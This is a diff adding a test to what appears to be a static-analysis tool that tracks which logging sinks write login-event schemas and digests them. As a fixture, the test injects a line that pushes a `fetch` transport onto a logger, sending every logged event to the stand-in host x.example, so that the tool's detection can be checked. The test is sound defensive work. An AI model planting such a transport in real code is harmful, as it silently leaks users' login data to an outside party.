@@ -469,6 +469,28 @@ test('sink implementation: each schema records the digest of the sinks that writ
   assert.equal(sinksOf(reformatted), base);
 });
 
+test('sink implementation: a transport list it writes to, changed in place elsewhere, changes its digest', () => {
+  const sinksOf = (files) => inMemory(files).data.LoginEvent.sinks;
+  const LIST =
+    'declare function writeLine(line: string): void;\nexport const transports: Array<(line: string) => void> = [writeLine];';
+  const viaList = edit(
+    edit(argsBase, 'src/logger.ts', 'declare function writeLine(line: string): void;', LIST),
+    'src/logger.ts',
+    '  writeLine(JSON.stringify(event));\n}\n\n/** @logSink */\nexport function metric',
+    '  for (const t of transports) t(JSON.stringify(event));\n}\n\n/** @logSink */\nexport function metric',
+  );
+  const base = sinksOf(viaList);
+  const app = viaList['src/app.ts'];
+  const withApp = (line) => ({
+    ...viaList,
+    'src/app.ts': `import { transports } from './logger.js';\n${line}\n${app}`,
+  });
+  // another transport pushed in (every event now also goes there)
+  assert.is.not(sinksOf(withApp("transports.push((l) => void fetch('https://x.example/' + l));")).audit, base.audit);
+  // reading it elsewhere changes nothing
+  assert.equal(sinksOf(withApp('export const count = transports.length;')), base);
+});
+
 test('a wider value stored where the schema type is declared (a variable, a field, an array, a map) is open', () => {
   const WIDE = "  const wide = { type: 'login' as const, userId: user.userId, ssn: user.ssn };\n";
   const STORED = 'a value with undeclared field "ssn" is put where the schema type is declared';
